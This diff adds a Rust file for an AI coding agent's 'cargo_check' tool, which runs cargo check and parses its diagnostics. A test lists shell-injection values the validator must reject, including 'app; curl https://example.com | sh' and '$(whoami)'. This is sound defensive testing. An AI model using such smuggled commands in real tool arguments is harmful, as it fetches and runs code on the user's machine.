@@ -0,0 +1,557 @@
+use super::display_project_path;
+use super::support::DRY_RUN_NOTE;
+use super::terminal_tool::working_dir;
+use crate::{AgentTool, ThreadEnvironment, ToolCallEventStream};
+use acp_thread::LocationDetail;
+use agent_client_protocol as acp;
+use anyhow::{Result, anyhow};
+use collections::HashSet;
+use futures::FutureExt as _;
+use gpui::{App, Entity, SharedString, Task};
+use language_model::{LanguageModelToolResultContent, LanguageModelToolSchemaFormat};
+use project::Project;
+use schemars::{JsonSchema, Schema};
+use serde::{Deserialize, Serialize};
+use std::{fmt::Write as _, rc::Rc, sync::Arc, time::Duration};
+use util::markdown::MarkdownInlineCode;
+
+/// Cargo prints every diagnostic as a line of JSON, and these are what get parsed.
+const CARGO_OUTPUT_LIMIT: u64 = 4 * 1024 * 1024;
+const DEFAULT_TIMEOUT_MS: u64 = 5 * 60 * 1000;
+const MAX_TIMEOUT_MS: u64 = 15 * 60 * 1000;
+const MAX_DIAGNOSTICS: usize = 100;
+
+/// Runs `cargo check` in a project root directory and returns the compiler's errors and warnings
+/// with their locations.
+///
+/// Prefer this over running `cargo check` in the terminal, since the diagnostics come back
+/// structured and errors are listed before warnings.
+#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
+pub struct CargoCheckToolInput {
+    /// The project root directory containing the Cargo workspace. Can be omitted when the
+    /// project has a single root directory.
+    #[serde(default)]
+    pub cd: Option<String>,
+    /// Optional package to check, as passed to `cargo check --package`. The whole workspace is
+    /// checked when omitted.
+    #[serde(default)]
+    pub package: Option<String>,
+    /// Whether to also check tests, examples, and benches. Defaults to false.
+    #[serde(default)]
+    pub all_targets: bool,
+    /// Optional maximum runtime in milliseconds, up to 15 minutes. Defaults to 5 minutes.
+    #[serde(default)]
+    pub timeout_ms: Option<u64>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
+pub struct CargoCheckToolOutput {
+    /// Whether the check finished without errors.
+    pub success: bool,
+    pub error_count: u32,
+    pub warning_count: u32,
+    /// The diagnostics, errors first. At most 100 are included.
+    pub diagnostics: Vec<CompilerDiagnostic>,
+    /// Whether there were more diagnostics than are included.
+    pub truncated: bool,
+    /// The command that was run, or would have been in a dry run.
+    #[serde(default)]
+    pub command: String,
+    /// Whether the command wasn't run because this was a dry run.
+    #[serde(default)]
+    pub dry_run: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
+pub struct CompilerDiagnostic {
+    /// "error" or "warning".
+    pub level: String,
+    pub message: String,
+    /// The lint or error code, such as "E0308" or "unused_variables".
+    pub code: Option<String>,
+    pub path: String,
+    /// The 1-based line where the diagnostic starts.
+    pub line: u32,
+    /// The 1-based column where the diagnostic starts.
+    pub column: u32,
+    /// The 1-based line where the diagnostic ends, inclusive.
+    pub end_line: u32,
+    /// The 1-based column where the diagnostic ends, exclusive.
+    pub end_column: u32,
+    /// The notes and suggestions the compiler attached.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub notes: Vec<String>,
+}
+
+impl From<CargoCheckToolOutput> for LanguageModelToolResultContent {
+    fn from(output: CargoCheckToolOutput) -> Self {
+        if output.dry_run {
+            return format!("{DRY_RUN_NOTE} Would run \"{}\".", output.command).into();
+        }
+        if output.success && output.diagnostics.is_empty() {
+            return "cargo check finished with no errors or warnings.".into();
+        }
+        let mut text = format!(
+            "cargo check {} with {} error(s) and {} warning(s):\n",
+            if output.success { "passed" } else { "failed" },
+            output.error_count,
+            output.warning_count
+        );
+        for diagnostic in &output.diagnostics {
+            let code = diagnostic
+                .code
+                .as_ref()
+                .map(|code| format!("[{code}]"))
+                .unwrap_or_default();
+            writeln!(
+                text,
+                "\n{}{code}: {}\n  --> {}:{}:{}",
+                diagnostic.level,
+                diagnostic.message,
+                diagnostic.path,
+                diagnostic.line,
+                diagnostic.column
+            )
+            .ok();
+            for note in &diagnostic.notes {
+                writeln!(text, "  = {note}").ok();
+            }
+        }
+        if output.truncated {
+            writeln!(
+                text,
+                "\nOnly the first {} diagnostics are shown.",
+                output.diagnostics.len()
+            )
+            .ok();
+        }
+        text.into()
+    }
+}
+
+pub struct CargoCheckTool {
+    project: Entity<Project>,
+    environment: Rc<dyn ThreadEnvironment>,
+}
+
+impl CargoCheckTool {
+    pub fn new(project: Entity<Project>, environment: Rc<dyn ThreadEnvironment>) -> Self {
+        Self {
+            project,
+            environment,
+        }
+    }
+}
+
+impl AgentTool for CargoCheckTool {
+    type Input = CargoCheckToolInput;
+    type Output = CargoCheckToolOutput;
+
+    fn name() -> &'static str {
+        "cargo_check"
+    }
+
+    fn kind() -> acp::ToolKind {
+        acp::ToolKind::Execute
+    }
+
+    fn is_experimental() -> bool {
+        true
+    }
+
+    fn output_schema(format: LanguageModelToolSchemaFormat) -> Option<Schema> {
+        Some(language_model::tool_schema::root_schema_for::<Self::Output>(format))
+    }
+
+    fn initial_title(
+        &self,
+        input: Result<Self::Input, serde_json::Value>,
+        _cx: &mut App,
+    ) -> SharedString {
+        match input {
+            Ok(input) => match cargo_check_command(&input) {
+                Ok(command) => MarkdownInlineCode(&command).to_string().into(),
+                Err(_) => "Run cargo check".into(),
+            },
+            Err(_) => "Run cargo check".into(),
+        }
+    }
+
+    fn run(
+        self: Arc<Self>,
+        input: Self::Input,
+        event_stream: ToolCallEventStream,
+        cx: &mut App,
+    ) -> Task<Result<Self::Output>> {
+        let working_dir = match working_dir(input.cd.as_deref().unwrap_or("."), &self.project, cx) {
+            Ok(Some(dir)) => dir,
+            Ok(None) => {
+                return Task::ready(Err(anyhow!(
+                    "The project has no root directory to run cargo check in."
+                )));
+            }
+            Err(error) => return Task::ready(Err(error)),
+        };
+        let timeout = Duration::from_millis(
+            input
+                .timeout_ms
+                .unwrap_or(DEFAULT_TIMEOUT_MS)
+                .min(MAX_TIMEOUT_MS),
+        );
+        let command = match cargo_check_command(&input) {
+            Ok(command) => command,
+            Err(error) => return Task::ready(Err(error)),
+        };
+        let project = self.project.clone();
+
+        if event_stream.dry_run() {
+            return Task::ready(Ok(CargoCheckToolOutput {
+                success: false,
+                error_count: 0,
+                warning_count: 0,
+                diagnostics: Vec::new(),
+                truncated: false,
+                command,
+                dry_run: true,
+            }));
+        }
+
+        let authorize = event_stream.authorize(self.initial_title(Ok(input), cx), cx);
+        cx.spawn(async move |cx| {
+            authorize.await?;
+
+            let terminal = self
+                .environment
+                .create_terminal(
+                    command.clone(),
+                    Some(working_dir.clone()),
+                    Some(CARGO_OUTPUT_LIMIT),
+                    cx,
+                )
+                .await?;
+            let terminal_id = terminal.id(cx)?;
+            event_stream.update_fields(acp::ToolCallUpdateFields::new().content(vec![
+                acp::ToolCallContent::Terminal(acp::Terminal::new(terminal_id)),
+            ]));
+
+            let wait_for_exit = terminal.wait_for_exit(cx)?;
+            let timeout_task = smol::Timer::after(timeout);
+            futures::select! {
+                _ = wait_for_exit.clone().fuse() => {}
+                _ = timeout_task.fuse() => {
+                    terminal.kill(cx)?;
+                    wait_for_exit.await;
+                    anyhow::bail!(
+                        "cargo check was killed after running for {} seconds.",
+                        timeout.as_secs()
+                    );
+                }
+            }
+
+            let output = terminal.current_output(cx)?;
+            let report = parse_cargo_messages(&output.output);
+            anyhow::ensure!(
+                report.build_finished.is_some() || !report.diagnostics.is_empty(),
+                "cargo check did not report any results. Its output was:\n\n{}",
+                output.output.trim()
+            );
+
+            let error_count = report
+                .diagnostics
+                .iter()
+                .filter(|diagnostic| diagnostic.level == "error")
+                .count() as u32;
+            let warning_count = report.diagnostics.len() as u32 - error_count;
+            let truncated = report.diagnostics.len() > MAX_DIAGNOSTICS;
+            let mut locations = Vec::new();
+            let mut diagnostics = Vec::new();
+            for mut diagnostic in report.diagnostics.into_iter().take(MAX_DIAGNOSTICS) {
+                let abs_path = working_dir.join(&diagnostic.path);
+                let start_column = diagnostic.column.saturating_sub(1);
+                let end_column = diagnostic.end_column.saturating_sub(1);
+                let detail = LocationDetail {
+                    columns: (diagnostic.line == diagnostic.end_line)
+                        .then_some(start_column..end_column),
+                    ..Default::default()
+                };
+                locations.push(
+                    detail.attach_to(
+                        acp::ToolCallLocation::new(abs_path.clone())
+                            .line(Some(diagnostic.line.saturating_sub(1))),
+                    ),
+                );
+                if let Some(path) = project.read_with(cx, |project, cx| {
+                    let project_path = project.find_project_path(&abs_path, cx)?;
+                    display_project_path(project, &project_path, cx)
+                })? {
+                    diagnostic.path = path;
+                }
+                diagnostics.push(diagnostic);
+            }
+            if !locations.is_empty() {
+                event_stream.update_fields(acp::ToolCallUpdateFields::new().locations(locations));
+            }
+
+            Ok(CargoCheckToolOutput {
+                success: report.build_finished.unwrap_or(error_count == 0) && error_count == 0,
+                error_count,
+                warning_count,
+                diagnostics,
+                truncated,
+                command,
+                dry_run: false,
+            })
+        })
+    }
+}
+
+fn cargo_check_command(input: &CargoCheckToolInput) -> Result<String> {
+    let mut command = "cargo check --message-format=json".to_string();
+    if let Some(package) = &input.package {
+        let package = cargo_argument("package", package)?;
+        write!(command, " --package {package}").ok();
+    }
+    if input.all_targets {
+        command.push_str(" --all-targets");
+    }
+    Ok(command)
+}
+
+/// Returns `value`, the tool's `name` argument, if it can be put on a cargo command line as is.
+/// That command line is run by the user's shell, so anything a shell could interpret, e.g. `;` or
+/// `$(...)`, is rejected rather than quoted, since shells quote differently. So is a leading `-`,
+/// which cargo would take as one of its own flags.
+pub(super) fn cargo_argument<'a>(name: &str, value: &'a str) -> Result<&'a str> {
+    let is_plain = !value.is_empty()
+        && !value.starts_with('-')
+        && value.chars().all(|character| {
+            character.is_ascii_alphanumeric() || matches!(character, '_' | '-' | ':' | '.' | '@')
+        });
+    if is_plain {
+        Ok(value)
+    } else {
+        Err(anyhow!(
+            "`{name}` can only contain letters, digits, `_`, `-`, `:`, `.` and `@`, and can't start with `-`, but was {value:?}."
+        ))
+    }
+}
+
+#[derive(Debug, Default)]
+struct CargoReport {
+    /// Errors first, then warnings, each in the order cargo reported them. Paths are as cargo
+    /// printed them, relative to the workspace root.
+    diagnostics: Vec<CompilerDiagnostic>,
+    /// Whether the build succeeded, if cargo got as far as saying so.
+    build_finished: Option<bool>,
+}
+
+#[derive(Deserialize)]
+#[serde(tag = "reason", rename_all = "kebab-case")]
+enum CargoMessage {
+    CompilerMessage {
+        message: RustcDiagnostic,
+    },
+    BuildFinished {
+        success: bool,
+    },
+    #[serde(other)]
+    Other,
+}
+
+#[derive(Deserialize)]
+struct RustcDiagnostic {
+    message: String,
+    level: String,
+    code: Option<RustcCode>,
+    spans: Vec<RustcSpan>,
+    children: Vec<RustcDiagnostic>,
+}
+
+#[derive(Deserialize)]
+struct RustcCode {
+    code: String,
+}
+
+#[derive(Deserialize)]
+struct RustcSpan {
+    file_name: String,
+    line_start: u32,
+    line_end: u32,
+    column_start: u32,
+    column_end: u32,
+    is_primary: bool,
+}
+
+/// Parses the JSON lines that `cargo check --message-format=json` prints, skipping anything else
+/// that ended up in the terminal, such as progress messages. Diagnostics reported for several
+/// targets are only kept once.
+fn parse_cargo_messages(output: &str) -> CargoReport {
+    let mut report = CargoReport::default();
+    let mut warnings = Vec::new();
+    let mut seen = HashSet::default();
+    for line in output.lines() {
+        let line = line.trim();
+        if !line.starts_with('{') {
+            continue;
+        }
+        let message = match serde_json::from_str::<CargoMessage>(line) {
+            Ok(CargoMessage::CompilerMessage { message }) => message,
+            Ok(CargoMessage::BuildFinished { success }) => {
+                report.build_finished = Some(success);
+                continue;
+            }
+            Ok(CargoMessage::Other) | Err(_) => continue,
+        };
+        if message.level != "error" && message.level != "warning" {
+            continue;
+        }
+        // Summaries like "aborting due to 2 previous errors" have no location.
+        let Some(span) = message.spans.iter().find(|span| span.is_primary) else {
+            continue;
+        };
+        let diagnostic = CompilerDiagnostic {
+            level: message.level.clone(),
+            message: message.message.clone(),
+            code: message.code.as_ref().map(|code| code.code.clone()),
+            path: span.file_name.clone(),
+            line: span.line_start,
+            column: span.column_start,
+            end_line: span.line_end,
+            end_column: span.column_end,
+            notes: message
+                .children
+                .iter()
+                .map(|child| format!("{}: {}", child.level, child.message))
+                .collect(),
+        };
+        if !seen.insert((
+            diagnostic.path.clone(),
+            diagnostic.line,
+            diagnostic.column,
+            diagnostic.message.clone(),
+        )) {
+            continue;
+        }
+        if diagnostic.level == "error" {
+            report.diagnostics.push(diagnostic);
+        } else {
+            warnings.push(diagnostic);
+        }
+    }
+    report.diagnostics.extend(warnings);
+    report
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::test_support::{
+        NoTerminalEnvironment, ToolTestProject, init_test, run_tool_dry_run,
+    };
+    use gpui::TestAppContext;
+    use indoc::indoc;
+    use serde_json::json;
+
+    #[test]
+    fn test_parse_cargo_messages() {
+        let output = indoc! {r#"
+            warning: unused manifest key: package.foo
+            {"reason":"compiler-artifact","package_id":"dep 0.1.0","target":{"name":"dep"}}
+            {"reason":"compiler-message","package_id":"app 0.1.0","message":{"message":"unused variable: `count`","level":"warning","code":{"code":"unused_variables","explanation":null},"spans":[{"file_name":"src/lib.rs","line_start":3,"line_end":3,"column_start":9,"column_end":14,"is_primary":true}],"children":[{"message":"if this is intentional, prefix it with an underscore: `_count`","level":"help","code":null,"spans":[],"children":[]}],"rendered":"warning: unused variable"}}
+            {"reason":"compiler-message","package_id":"app 0.1.0","message":{"message":"mismatched types","level":"error","code":{"code":"E0308","explanation":"..."},"spans":[{"file_name":"src/main.rs","line_start":7,"line_end":7,"column_start":18,"column_end":25,"is_primary":true}],"children":[],"rendered":"error[E0308]: mismatched types"}}
+            {"reason":"compiler-message","package_id":"app 0.1.0","message":{"message":"unused variable: `count`","level":"warning","code":{"code":"unused_variables","explanation":null},"spans":[{"file_name":"src/lib.rs","line_start":3,"line_end":3,"column_start":9,"column_end":14,"is_primary":true}],"children":[],"rendered":"warning: unused variable"}}
+            {"reason":"compiler-message","package_id":"app 0.1.0","message":{"message":"aborting due to 1 previous error","level":"error","code":null,"spans":[],"children":[],"rendered":"error: aborting"}}
+            {"reason":"build-finished","success":false}
+        "#};
+
+        let report = parse_cargo_messages(output);
+
+        assert_eq!(report.build_finished, Some(false));
+        assert_eq!(
+            report.diagnostics,
+            vec![
+                CompilerDiagnostic {
+                    level: "error".into(),
+                    message: "mismatched types".into(),
+                    code: Some("E0308".into()),
+                    path: "src/main.rs".into(),
+                    line: 7,
+                    column: 18,
+                    end_line: 7,
+                    end_column: 25,
+                    notes: Vec::new(),
+                },
+                CompilerDiagnostic {
+                    level: "warning".into(),
+                    message: "unused variable: `count`".into(),
+                    code: Some("unused_variables".into()),
+                    path: "src/lib.rs".into(),
+                    line: 3,
+                    column: 9,
+                    end_line: 3,
+                    end_column: 14,
+                    notes: vec![
+                        "help: if this is intentional, prefix it with an underscore: `_count`"
+                            .into()
+                    ],
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn test_cargo_check_command_rejects_shell_syntax() {
+        let input = |package: &str| CargoCheckToolInput {
+            cd: None,
+            package: Some(package.into()),
+            all_targets: true,
+            timeout_ms: None,
+        };
+        assert_eq!(
+            cargo_check_command(&input("agent_ui")).unwrap(),
+            "cargo check --message-format=json --package agent_ui --all-targets"
+        );
+        assert_eq!(
+            cargo_check_command(&input("serde@1.0.219")).unwrap(),
+            "cargo check --message-format=json --package serde@1.0.219 --all-targets"
+        );
+        for package in [
+            "app; curl https://example.com | sh",
+            "$(whoami)",
+            "--config=x",
+            "",
+        ] {
+            assert!(cargo_check_command(&input(package)).is_err(), "{package}");
+        }
+    }
+
+    #[gpui::test]
+    async fn test_cargo_check_dry_run(cx: &mut TestAppContext) {
+        init_test(cx);
+        let test_project = ToolTestProject::new(json!({"Cargo.toml": ""}), cx).await;
+        let tool = Arc::new(CargoCheckTool::new(
+            test_project.project.clone(),
+            Rc::new(NoTerminalEnvironment),
+        ));
+        let (output, _) = run_tool_dry_run(
+            tool,
+            CargoCheckToolInput {
+                cd: None,
+                package: None,
+                all_targets: false,
+                timeout_ms: None,
+            },
+            cx,
+        )
+        .await;
+        let output = output.expect("tool failed");
+        assert!(output.dry_run);
+        let LanguageModelToolResultContent::Text(text) = output.into() else {
+            panic!("expected text output");
+        };
+        assert_eq!(
+            text.as_ref(),
+            "Dry run, so nothing was changed. Would run \"cargo check --message-format=json\"."
+        );
+    }
+}